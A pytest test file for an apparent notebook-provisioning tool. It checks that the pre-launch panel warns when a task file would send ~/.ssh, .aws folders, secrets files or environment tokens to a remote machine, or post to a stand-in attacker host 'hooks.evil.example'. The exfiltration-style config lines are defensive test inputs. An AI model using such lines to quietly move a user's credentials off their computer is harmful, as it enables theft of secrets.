"""What a stranger's task file takes from this computer is said before Launch."""

from __future__ import annotations

from pathlib import Path

import pytest
from tunnel_world import SPEC, TunnelWorld

from nbprov import api
from nbprov.machines.files.output_targets import OutputFolders

OURS = "NBPROV_TEST_TOKEN"
PROJECT = "[project]\nname = 'x'\nversion = '1'\nrequires-python = '>=3.10'\n"
LOCK = (
    "version = 1\nrequires-python = '>=3.10'\n"
    "[[package]]\nname = 'x'\nversion = '1'\nsource = { virtual = '.' }\n"
)


@pytest.fixture
def notebook(tmp_path: Path) -> Path:
    for made in ("home/.ssh", "home/key", "notebook/data", "notebook/.aws"):
        (tmp_path / made).mkdir(parents=True)
    (tmp_path / "notebook" / "in").symlink_to(tmp_path / "home" / "key")
    (tmp_path / "home/secrets.toml").write_text("key = 's3cr3t'\n")
    (tmp_path / "notebook/linked.toml").symlink_to(tmp_path / "home/secrets.toml")
    (tmp_path / "home/more.txt").write_text("six\n")
    (tmp_path / "notebook/requirements.txt").write_text("-r ../home/more.txt\n")
    for folder in ("home/project", "notebook/project"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "pyproject.toml").write_text(PROJECT)
        (tmp_path / folder / "uv.lock").write_text(LOCK)
        (tmp_path / folder / ".python-version").write_text("3.12\n")
    return tmp_path / "notebook"


def notes(world: TunnelWorld, notebook: Path, more: str) -> list[str]:
    """What the panel says before Launch, and the plan without one."""
    run = world.session.provision(SPEC % "" + f"\n{more}", "new", folder=str(notebook))
    assert isinstance(run, api.Run)
    return list(run.driver.view().notes)


@pytest.mark.parametrize(
    ("more", "told"),
    [
        ("file_mounts: {~/x: ~/.ssh}", ".ssh is sent to the machine; it is outside the"),
        ("workdir: ~/.ssh", "it is outside the"),
        ("file_mounts: {~/x: in}", "key is sent to the machine; it is outside the"),
        ("file_mounts: {~/x: ../home/key}", "key is sent to the machine; it is outside the"),
        ("file_mounts: {~/x: ./.aws}", ".aws is sent to the machine; it is hidden"),
        ("python: ~/secrets.toml", "secrets.toml is sent to the machine; it is outside the"),
        ("python: linked.toml", "secrets.toml is sent to the machine; it is outside the"),
        ("python: requirements.txt", "more.txt is sent to the machine; it is outside the"),
        ("python: {lock: ~/project}", "pyproject.toml is sent to the machine; it is outside the"),
        (
            "file_mounts: {/d: s3://payroll/x}",
            "file_mounts: s3://payroll/x is read with this computer's AWS login if it wants one",
        ),
        ("file_mounts: {/d: gs://payroll}", "with this computer's Google login if it wants one"),
        ("file_mounts: {/d: r2://payroll}", "with this computer's keys of Cloudflare R2"),
        (
            "workdir: {url: 'git@github.com:work/private.git'}",
            "workdir: git@github.com:work/private.git is cloned with this computer's git login",
        ),
        (
            "wait: {for: 1h, notify: 'https://hooks.evil.example:8443/T0/key'}",
            "its end is posted to hooks.evil.example:8443",
        ),
        (f"secrets: {{{OURS}: null}}", f"the machine gets {OURS} of this kernel's environment"),
        (f"envs: {{{OURS}: null}}", f"the machine gets {OURS} of this kernel's environment"),
    ],
)
def test_what_leaves_this_computer_is_named_before_launch(
    world: TunnelWorld,
    notebook: Path,
    monkeypatch: pytest.MonkeyPatch,
    more: str,
    told: str,
) -> None:
    monkeypatch.setenv("HOME", str(notebook.parent / "home"))
    monkeypatch.setenv(OURS, "a-token-of-ours")
    found = notes(world, notebook, more)
    assert any(told in note for note in found)
    assert not any("a-token-of-ours" in note or "T0/key" in note for note in found)
    outputs = OutputFolders.agreed(str(notebook), "", "new")
    plan = world.session.plan(SPEC % "" + f"\n{more}")
    assert any(told in note for note in world.session.terms(plan, outputs=outputs).notes)


def test_what_lies_in_the_notebooks_folder_needs_no_word(
    world: TunnelWorld, notebook: Path
) -> None:
    more = "workdir: .\nfile_mounts: {~/x: data}\npython: {lock: project}"
    found = notes(world, notebook, more)
    assert not any("sent to the machine" in note for note in found)
